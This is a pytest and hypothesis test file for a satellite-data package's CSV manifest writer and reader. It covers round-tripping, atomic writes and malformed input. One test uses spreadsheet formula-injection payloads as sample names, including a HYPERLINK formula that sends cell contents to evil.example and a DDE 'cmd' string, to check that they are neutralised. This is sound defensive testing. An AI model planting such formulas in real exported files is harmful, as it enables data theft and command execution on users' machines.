"""Manifests round-trip whatever the data, and are written atomically (issue 16).

Reported: a footprint over 128 KiB was written but not read; a newline in a query string added
rows; a name starting with ``=``, ``+``, ``-``, ``@`` was written as is (a formula when the file
is opened in a spreadsheet); a UTF-8 BOM made the file "not a manifest"; a full disk while
writing it ended in a traceback. The fuzz tests at the end: any product and query values come
back equal, and any bytes read as a manifest raise only :class:`ManifestError`.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import pickle
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cdse_intake.manifest import (
    ManifestError,
    ManifestRow,
    ManifestWriteError,
    merge_manifest,
    read_manifest,
    write_manifest,
)
from cdse_intake.product import Product

ID = "5b1f6bd8-3b52-4d0f-9d22-1f3c3e0f5a11"


def _product(**fields) -> Product:
    base = {
        "id": ID,
        "name": "S2A_MSIL2A_20230101T105441_N0509_R051_T31UDQ_20230101T140051.SAFE",
        "collection": "SENTINEL-2",
        "start": datetime(2023, 1, 1, 10, 54, 41, tzinfo=UTC),
    }
    return Product(**{**base, **fields})


def _fields(product: Product) -> dict:
    """What a manifest row keeps of a product (its footprint as a shapely geometry)."""
    import shapely

    data = product.to_dict()
    data["checksums"] = {k: v for k, v in data["checksums"].items() if k in ("MD5", "BLAKE3")}
    for name in ("attributes", "assets", "published", "modified"):  # not a manifest column
        data.pop(name)
    geometry = data.pop("footprint")
    data["footprint"] = shapely.to_wkb(shapely.geometry.shape(geometry)) if geometry else None
    return data


def _round_trip(tmp_path: Path, rows: list[ManifestRow], **header) -> tuple[Path, object]:
    path = write_manifest(tmp_path / "m.csv", rows, **header)
    return path, read_manifest(path)


# -- the reported cases -------------------------------------------------------------------------


def test_a_footprint_over_128_kib_reads_back(tmp_path):
    ring = [[round(-10 + i * 1e-4, 6), round(40 + (i % 2) * 1e-4, 6)] for i in range(12_000)]
    ring += [[ring[-1][0], 41.0], [-10.0, 41.0], ring[0]]
    footprint = {"type": "Polygon", "coordinates": [ring]}
    product = _product(footprint=footprint)
    path, manifest = _round_trip(tmp_path, [ManifestRow(product)])
    assert path.stat().st_size > 128 * 1024
    assert _fields(manifest.rows[0].product) == _fields(product)


def test_a_newline_in_the_query_adds_no_rows(tmp_path):
    query = {"name_contains": "a\nId,Name\nx,y\r\n", "collection": "SENTINEL-2\u2028"}
    row = ManifestRow(_product(), reason="line one\nline two", local_path="C:\\data\\a.zip")
    path, manifest = _round_trip(tmp_path, [row], query=query, backend="odata\n", endpoint="e\r")
    assert manifest.query == query
    assert (manifest.backend, manifest.endpoint) == ("odata\n", "e\r")
    assert [r.reason for r in manifest.rows] == ["line one\nline two"]
    assert manifest.rows[0].local_path == "C:\\data\\a.zip"
    # one physical line per header field and per row: nothing a plain line reader splits
    lines = path.read_text(encoding="utf-8").split("\n")
    assert sum(1 for line in lines if line and not line.startswith("#")) == 2
    assert len(pd.read_csv(path, comment="#", dtype=str)) == 1


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "'", "\uff1d", " ="])
def test_spreadsheet_formulas_are_neutralised_and_read_back(tmp_path, lead):
    name = f'{lead}HYPERLINK("http://evil.example/?"&A1,"x")'
    row = ManifestRow(_product(name=name, s3_path=f"{lead}cmd|' /C calc'!A0"), reason=f"{lead}1+1")
    path, manifest = _round_trip(tmp_path, [row])
    cells = next(r for r in csv.reader(io.StringIO(_body(path))) if r[0] == ID)
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d")  # nothing a formula
        assert cell.lstrip()[:1] not in ("=", "+", "-", "@") or cell.startswith("'")
    got = manifest.rows[0]
    assert (got.product.name, got.product.s3_path, got.reason) == (
        name,
        row.product.s3_path,
        row.reason,
    )


def test_a_utf8_bom_is_accepted(tmp_path):
    path = write_manifest(tmp_path / "m.csv", [ManifestRow(_product())], query={"a": 1})
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    manifest = read_manifest(path)
    assert [r.product.id for r in manifest.rows] == [ID] and manifest.query == {"a": 1}
    seed = tmp_path / "seed.csv"  # a seed script's log saved by a spreadsheet: BOM and CRLF
    seed.write_bytes(b"\xef\xbb\xbfId,Name\r\n" + f"{ID},A.SAFE\r\n".encode())
    assert [(r.product.id, r.product.name) for r in read_manifest(seed).rows] == [(ID, "A.SAFE")]


def test_a_lone_surrogate_and_control_characters_round_trip(tmp_path):
    name = "S2A\udc80_\x00\x1b[31m\x85\u202e.SAFE"
    row = ManifestRow(_product(name=name, id="\ud800id"), reason="\x7f")
    _, manifest = _round_trip(tmp_path, [row], query={"name_contains": "\udfff"})
    got = manifest.rows[0]
    assert (got.product.name, got.product.id, got.reason) == (name, "\ud800id", "\x7f")
    assert manifest.query == {"name_contains": "\udfff"}


def test_a_full_disk_leaves_the_manifest_as_it_was(tmp_path, monkeypatch):
    path = write_manifest(tmp_path / "m.csv", [ManifestRow(_product())], query={"a": 1})
    before = path.read_bytes()
    _disk_full(monkeypatch)
    with pytest.raises(ManifestWriteError) as caught:
        write_manifest(path, [ManifestRow(_product(), downloaded="verified")])
    assert isinstance(caught.value, OSError) and "No space left" in str(caught.value)
    assert str(path) in str(caught.value)
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["m.csv"]  # no temporary file left
    with pytest.raises(ManifestWriteError):
        merge_manifest(path, [_product(id="other")], query={"b": 2})
    assert path.read_bytes() == before
    assert pickle.loads(pickle.dumps(caught.value)).args == caught.value.args


def test_a_manifest_that_cannot_be_placed_is_one_error(tmp_path):
    (tmp_path / "file").write_text("x")
    with pytest.raises(ManifestWriteError, match="file"):
        write_manifest(tmp_path / "file" / "m.csv", [ManifestRow(_product())])
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(ManifestWriteError, match="folder"):
        write_manifest(tmp_path / "folder.csv", [ManifestRow(_product())])
    assert sorted(p.name for p in (tmp_path / "folder.csv").iterdir()) == []


def test_only_regular_files_are_read(tmp_path):
    with pytest.raises(ManifestError, match="not a regular file"):
        read_manifest("/dev/zero")  # endless: never read
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(ManifestError, match="not a regular file"):
        read_manifest(fifo)  # would block forever
    with pytest.raises(ManifestError):
        read_manifest(tmp_path)


@pytest.mark.parametrize(
    "text",
    [
        "Id,Name\nx,y\nz\n",  # a short row
        "Id,Name,Footprint\nx,y,POLYGON ((0 0\n",
        "Id,Name,Size\nx,y,12a\n",
        "Id,Name,Start\nx,y,2023-13-45\n",
        "# query: 3\nId,Name\n",
        "# query: [1]\nId,Name\n",
        '# queries: "x"\nId,Name\n',
        "# query: " + "[" * 100_000 + "\nId,Name\n",
        'Id,Name\nx,"y\n',  # an unterminated quote
        "Id,Name,Online\nx,y,maybe\n",
        "Id,Name\n,y\n",
    ],
)
def test_damaged_manifests_raise_manifest_error(tmp_path, text):
    path = tmp_path / "m.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ManifestError):
        read_manifest(path)


def test_manifests_written_before_read_as_they_did(tmp_path):
    """The csv module's quoting (a newline inside quotes) as earlier versions wrote it."""
    path = tmp_path / "m.csv"
    path.write_text(
        "# cdse_intake manifest\n# backend: odata\n# query: {}\n"
        "Id,Name,Reason,LocalPath,Online,Downloaded\n"
        f'{ID},A.SAFE,"line one\nline two","C:\\data\\a,b.zip",True,verified\n',
        encoding="utf-8",
    )
    manifest = read_manifest(path)
    row = manifest.rows[0]
    assert (row.reason, row.local_path, row.downloaded) == (
        "line one\nline two",
        "C:\\data\\a,b.zip",
        "verified",
    )
    assert manifest.backend == "odata" and row.product.online is True


def test_unknown_escapes_in_a_protected_cell_stay_as_they_are(tmp_path):
    path = tmp_path / "m.csv"
    path.write_text("Id,Name,LocalPath\nx,'=\\q\\u12,'C:\\data\\n1\\\\\n", encoding="utf-8")
    row = read_manifest(path).rows[0]
    assert (row.product.name, row.local_path) == ("=\\q\\u12", "C:\\data\n1\\")


def _body(path: Path) -> str:
    return "".join(
        line for line in path.read_text(encoding="utf-8").splitlines(True) if line[:1] != "#"
    )


def _disk_full(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make the manifest's temporary file one on ``/dev/full``: every write gets ENOSPC."""
    import tempfile

    if not os.path.exists("/dev/full"):  # pragma: no cover - not Linux
        pytest.skip("no /dev/full")
    real = tempfile.mkstemp

    def mkstemp(*args, **kwargs):
        fd, name = real(*args, **kwargs)
        full = os.open("/dev/full", os.O_WRONLY)
        os.dup2(full, fd)
        os.close(full)
        return fd, name

    monkeypatch.setattr(tempfile, "mkstemp", mkstemp)


# -- fuzzing ------------------------------------------------------------------------------------

any_text = st.text(alphabet=st.characters(blacklist_categories=()), max_size=40)  # surrogates too
tricky_text = st.one_of(
    any_text,
    st.builds(
        lambda lead, rest: lead + rest,
        st.sampled_from(
            ["=", "+", "-", "@", "'", "''", "\t", "\r", "\n", " =", '"', "#", "\ufeff"]
        ),
        any_text,
    ),
    st.sampled_from(["", " ", ",", '"', "\\", "\\n", "'\\n", "a,b\nc", "\u2028", "\x00", "é"]),
)
coordinate = st.integers(-180_000_000, 180_000_000).map(lambda v: v / 1e6)
latitude = st.integers(-90_000_000, 90_000_000).map(lambda v: v / 1e6)


@st.composite
def footprints(draw):
    kind = draw(st.sampled_from(["none", "point", "polygon", "big"]))
    if kind == "none":
        return None
    if kind == "point":
        return {"type": "Point", "coordinates": [draw(coordinate), draw(latitude)]}
    x, y = draw(st.integers(-170, 169)), draw(st.integers(-80, 79))
    # "big": ~8,000 points, a WKT field of ~150 kB, past the csv module's default field limit
    # (131,072 characters) that the manifest reader lifts.
    n = 8_000 if kind == "big" else draw(st.integers(1, 30))
    bottom = [[round(x + i / n, 6), float(y)] for i in range(n + 1)]
    ring = [*bottom, [x + 1.0, y + 1.0], [float(x), y + 1.0], bottom[0]]
    return {"type": "Polygon", "coordinates": [ring]}


times = st.one_of(
    st.none(),
    st.datetimes(
        min_value=datetime(1, 1, 2),
        max_value=datetime(9999, 12, 30),
        timezones=st.sampled_from(
            [UTC, timezone(timedelta(hours=2)), timezone(timedelta(hours=-11))]
        ),
    ),
)


@st.composite
def products(draw, index: int):
    hexes = st.text(alphabet="0123456789abcdef", min_size=1, max_size=64)
    return Product(
        id=draw(tricky_text.filter(bool)) + f"#{index}",
        name=draw(tricky_text),
        collection=draw(st.none() | tricky_text.filter(bool)),
        product_type=draw(st.none() | tricky_text.filter(bool)),
        start=draw(times),
        end=draw(times),
        footprint=draw(footprints()),
        size=draw(st.none() | st.integers(min_value=0, max_value=10**40)),
        checksums=draw(st.dictionaries(st.sampled_from(["MD5", "BLAKE3"]), hexes)),
        s3_path=draw(st.none() | tricky_text.filter(bool)),
        online=draw(st.none() | st.booleans()),
        attributes=draw(st.dictionaries(any_text, any_text | st.integers(), max_size=3)),
    )


@st.composite
def manifest_rows(draw):
    count = draw(st.integers(0, 4))
    return [
        ManifestRow(
            product=draw(products(i)),
            downloaded=draw(st.sampled_from(["no", "verified", "skipped", "failed"])),
            local_path=draw(tricky_text),
            reason=draw(tricky_text),
            query_id=draw(tricky_text),
            in_last_search=draw(st.sampled_from(["", "yes", "no"])),
            last_seen=draw(tricky_text),
        )
        for i in range(count)
    ]


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | tricky_text,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(tricky_text, inner, max_size=3),
    max_leaves=6,
)
queries = st.dictionaries(tricky_text, json_values, max_size=5)


def _row_fields(row: ManifestRow) -> tuple:
    return (
        _fields(row.product),
        row.downloaded,
        row.local_path,
        row.reason,
        row.query_id,
        row.in_last_search,
        row.last_seen,
    )


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    rows=manifest_rows(),
    query=queries,
    backend=tricky_text,
    endpoint=tricky_text,
    created=st.none() | tricky_text.filter(bool),
    multi=st.dictionaries(tricky_text, queries, max_size=2),
    searches=st.lists(st.dictionaries(tricky_text, json_values, max_size=3), max_size=2),
)
def test_any_values_round_trip(tmp_path_factory, rows, query, backend, endpoint, created, multi,
                               searches):  # fmt: skip
    folder = tmp_path_factory.mktemp("fuzz")
    path = write_manifest(
        folder / "m.csv",
        rows,
        query=query,
        backend=backend,
        endpoint=endpoint,
        created=created,
        queries=multi,
        searches=searches,
    )
    manifest = read_manifest(path)
    assert [_row_fields(r) for r in manifest.rows] == [_row_fields(r) for r in rows]
    assert manifest.query == query
    assert (manifest.backend, manifest.endpoint) == (backend, endpoint)
    if created:
        assert manifest.created == created
    assert manifest.queries == multi
    assert manifest.searches == searches
    # every row is one physical line, and pandas reads as many rows as there are
    body = [line for line in path.read_text(encoding="utf-8").split("\n") if line[:1] != "#"]
    assert len([line for line in body if line]) == len(rows) + 1
    assert len(pd.read_csv(path, comment="#", dtype=str, keep_default_na=False)) == len(rows)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(products=st.lists(products(0), max_size=3), query=queries)
def test_any_search_merges_and_reads_back(tmp_path_factory, products, query):
    unique = list({p.id: p for p in products}.values())
    path = tmp_path_factory.mktemp("merge") / "m.csv"
    merge_manifest(path, unique, query=query, backend="odata")
    merge_manifest(path, unique, query=query, backend="stac")
    manifest = read_manifest(path)
    assert [_fields(r.product) for r in manifest.rows] == [_fields(p) for p in unique]
    assert manifest.query == query and [s["backend"] for s in manifest.searches] == [
        "odata",
        "stac",
    ]


good = (
    "# cdse_intake manifest\n# query: {}\n"
    "Id,Name,Collection,Start,Size,Footprint,Online,Downloaded\n"
    "a,b,SENTINEL-2,2023-01-01T00:00:00Z,12,POINT (1 2),True,no\n"
)


@settings(max_examples=300, deadline=None)
@given(
    data=st.one_of(
        st.binary(max_size=400),
        st.text(max_size=300).map(lambda t: t.encode("utf-8", "surrogatepass")),
        st.tuples(st.integers(0, len(good)), st.binary(max_size=30), st.integers(0, 30)).map(
            lambda c: good[: c[0]].encode() + c[1] + good[c[0] + c[2] :].encode()
        ),
    )
)
def test_any_bytes_read_as_a_manifest_raise_only_manifest_error(tmp_path_factory, data):
    path = tmp_path_factory.mktemp("bytes") / "m.csv"
    path.write_bytes(data)
    with contextlib.suppress(ManifestError):
        manifest = read_manifest(path)
        assert isinstance(manifest.query, dict) and isinstance(manifest.queries, dict)
        for row in manifest.rows:
            assert isinstance(row.product, Product)
